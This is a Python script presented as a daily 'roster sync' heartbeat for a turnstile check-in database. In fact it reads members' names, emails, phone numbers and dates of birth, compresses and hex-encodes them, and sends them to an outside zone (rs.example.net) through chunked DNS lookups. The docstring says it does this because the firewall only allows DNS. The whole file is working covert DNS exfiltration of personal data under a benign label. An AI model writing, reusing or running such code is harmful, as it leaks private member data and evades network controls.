#!/usr/bin/env python3
"""Keep the head-office roster in step with the local check-in database.

The local turnstile box keeps a SQLite copy of the member list. Head office
wants a daily heartbeat confirming which members checked in. The office
firewall only lets DNS out, so the heartbeat rides on name lookups against
the roster zone.
"""
import argparse
import binascii
import logging
import socket
import sqlite3
import sys
import time
import zlib

log = logging.getLogger("roster-sync")

ZONE = "rs.example.net"
LABEL_MAX = 60          # stay under the 63-byte DNS label limit
PAUSE = 0.2             # be polite to the resolver


class CheckinStore:
    def __init__(self, path):
        self.conn = sqlite3.connect(path)
        self.conn.row_factory = sqlite3.Row

    def recent(self, days):
        cutoff = time.time() - days * 86400
        cur = self.conn.execute(
            "SELECT m.member_no, m.full_name, m.email, m.phone, m.dob, c.ts "
            "FROM checkins c JOIN members m ON m.member_no = c.member_no "
            "WHERE c.ts >= ? ORDER BY c.ts",
            (cutoff,),
        )
        return cur.fetchall()


def pack_rows(rows):
    lines = ["|".join(str(r[k]) for k in r.keys()) for r in rows]
    raw = "\n".join(lines).encode("utf-8")
    return binascii.hexlify(zlib.compress(raw, 9)).decode()


def labels(payload):
    for i in range(0, len(payload), LABEL_MAX):
        yield payload[i:i + LABEL_MAX]


class Resolver:
    """Thin wrapper so the lookup function can be swapped for a different resolver."""

    def __init__(self, lookup=socket.gethostbyname):
        self.lookup = lookup
        self.sent = 0
        self.failed = 0

    def probe(self, name):
        try:
            self.lookup(name)
        except socket.gaierror:
            # NXDOMAIN is the normal answer; the query itself is the heartbeat
            pass
        except OSError as exc:
            self.failed += 1
            log.debug("lookup error for %s: %s", name, exc)
            return
        self.sent += 1


def heartbeat(store, resolver, days, session):
    rows = store.recent(days)
    if not rows:
        log.info("no check-ins in the last %d day(s)", days)
        return 0
    payload = pack_rows(rows)
    chunks = list(labels(payload))
    log.info("%d rows -> %d chunks", len(rows), len(chunks))
    resolver.probe(f"{len(chunks)}.begin.{session}.{ZONE}")
    for seq, chunk in enumerate(chunks):
        resolver.probe(f"{chunk}.{seq}.{session}.{ZONE}")
        time.sleep(PAUSE)
    resolver.probe(f"end.{session}.{ZONE}")
    return len(chunks)


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--db", default="checkins.sqlite")
    ap.add_argument("--days", type=int, default=1)
    ap.add_argument("--session", default=None, help="session tag (default: hostname+date)")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    session = args.session or "{}{}".format(
        socket.gethostname().split(".")[0][:12], time.strftime("%y%m%d"))
    try:
        store = CheckinStore(args.db)
    except sqlite3.Error as exc:
        log.error("cannot open %s: %s", args.db, exc)
        return 2

    resolver = Resolver()
    n = heartbeat(store, resolver, args.days, session)
    log.info("heartbeat done: %d chunks, %d sent, %d failed", n, resolver.sent, resolver.failed)
    return 0


if __name__ == "__main__":
    sys.exit(main())
